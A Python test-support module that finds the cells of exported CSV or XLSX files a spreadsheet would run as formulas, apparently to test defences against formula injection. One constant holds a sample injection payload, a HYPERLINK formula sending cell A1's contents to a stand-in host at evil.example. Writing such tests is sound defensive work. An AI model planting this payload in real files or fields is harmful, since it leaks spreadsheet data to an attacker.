"""Test support: the cells of a CSV or XLSX file the product wrote that a spreadsheet would run."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from storage.spreadsheets import FORMULA_STARTS

# A unit or counter name, a comment, evidence: text anyone may have typed somewhere.
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Xem chi tiết")'


def live_cells(data: bytes, fmt: str) -> list[str]:
    """Every cell a spreadsheet would take for a formula: text starting with = + - @, tab or
    carriage return, or (XLSX) a cell stored as a formula."""
    if fmt == "csv":
        text = data.decode("utf-8-sig")
        return [
            cell
            for row in csv.reader(io.StringIO(text))
            for cell in row
            if cell.startswith(FORMULA_STARTS)
        ]
    book = load_workbook(io.BytesIO(data))
    return [
        f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
        or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS))
    ]


def cell_texts(data: bytes, fmt: str) -> list[str]:
    """Every cell's text (CSV) or value (XLSX), as written."""
    if fmt == "csv":
        return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
    book = load_workbook(io.BytesIO(data))
    return [
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
